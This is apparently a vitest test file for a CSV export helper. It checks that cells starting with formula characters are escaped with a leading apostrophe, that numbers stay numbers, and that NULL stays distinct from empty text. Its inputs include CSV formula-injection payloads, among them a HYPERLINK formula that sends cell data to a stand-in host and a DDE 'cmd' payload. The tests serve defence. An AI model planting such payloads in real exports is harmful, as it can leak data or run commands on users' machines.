import { describe, expect, it } from 'vitest';
import { csvLine } from '../../../src/entrypoints/http/csv-line.ts';

/** The first cell of a line, without the quotes around it. */
const cell = (value: string | number | null): string => csvLine([value]).replace(/\r\n$/, '');

describe('A cell of a CSV download', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1)',
    '+1+1',
    '-1+1',
    '@SUM(A1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    "=cmd|' /C calc'!A0",
  ])('is no formula to a spreadsheet: %j', (text) => {
    expect(cell(text)).toBe(`"'${text.replaceAll('"', '""')}"`);
  });

  it.each([-5, 0, 1_234_567.89])('keeps the number %d a number', (number) => {
    expect(cell(number)).toBe(String(number));
  });

  it('keeps text that is none, and tells NULL from empty text', () => {
    expect(cell('Acme = good, "really"')).toBe('"Acme = good, ""really"""');
    expect(cell('a=b')).toBe('"a=b"');
    expect(cell(null)).toBe('NULL');
    expect(cell('NULL')).toBe('"NULL"');
    expect(cell('')).toBe('""');
  });
});
